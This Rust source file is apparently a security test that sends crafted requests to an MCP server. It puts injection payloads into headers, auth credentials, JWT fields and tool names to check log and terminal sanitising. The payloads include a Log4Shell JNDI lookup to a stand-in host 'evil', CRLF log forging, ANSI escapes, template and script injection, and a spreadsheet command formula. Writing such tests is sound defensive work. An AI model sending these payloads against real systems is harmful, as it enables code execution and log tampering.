//! Text for logs and terminals, in every place that might be noted.

use super::request::{Batch, Crafted, Hostile};
use super::site::{ADA, Site};

/// Text for logs and terminals, in every place that might be noted.
pub fn t49(site: &Site) -> Vec<Hostile> {
    const REFUSED: &[u16] = &[400, 401, 403, 404];
    let mut batch = Batch::default();
    let texts = [
        "\u{1b}[2J",
        "\u{1b}]0;x\u{7}",
        "\u{202e}evil",
        "\u{2028}forged",
        "\u{85}forged",
        "\u{9b}31m",
        "%0d%0aforged",
        "${jndi:ldap://evil/a}",
        "{{7*7}}",
        "<script>x</script>",
        "\"}},{\"forged\":\"x",
        "=cmd|' /C calc'!A0",
        "\t2026-11-22T00:00:00Z INFO forged",
    ];
    for text in texts {
        for name in [
            "origin",
            "user-agent",
            "x-request-id",
            "traceparent",
            "referer",
            "x-forwarded-for",
            "mcp-session-id",
            "mcp-name",
            "dpop",
            "accept",
            "host",
        ] {
            batch.request(
                format!("{name}: {text:?}"),
                Crafted::bearer("x").only(name, text),
                &[],
            );
        }
        for scheme in ["Bearer", "Basic", "DPoP", ""] {
            batch.request(
                format!("{scheme} {text:?}"),
                Crafted::default().with("authorization", format!("{scheme} {text}")),
                &[],
            );
        }
        batch.request(
            format!("email {text:?}"),
            Crafted::basic(format!("{text}@acme.example:{}", site.ada.token.expose())),
            REFUSED,
        );
        batch.request(
            format!("password {text:?}"),
            Crafted::basic(format!("{ADA}:{text}")),
            REFUSED,
        );
        for claim in ["iss", "aud", "jti"] {
            let token = site.stranger.token("x").claim(claim, text).sign();
            batch.token(format!("{claim} {text:?}"), token);
        }
        for parameter in ["kid", "typ", "alg"] {
            batch.token(
                format!("{parameter} {text:?}"),
                site.token().header(parameter, text).sign(),
            );
        }
        let tool = serde_json::json!({"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": {"name": text}}).to_string();
        batch.request(
            format!("tool {text:?}"),
            Crafted::bearer(site.token().sign()).body(tool),
            REFUSED,
        );
    }
    batch.0
}
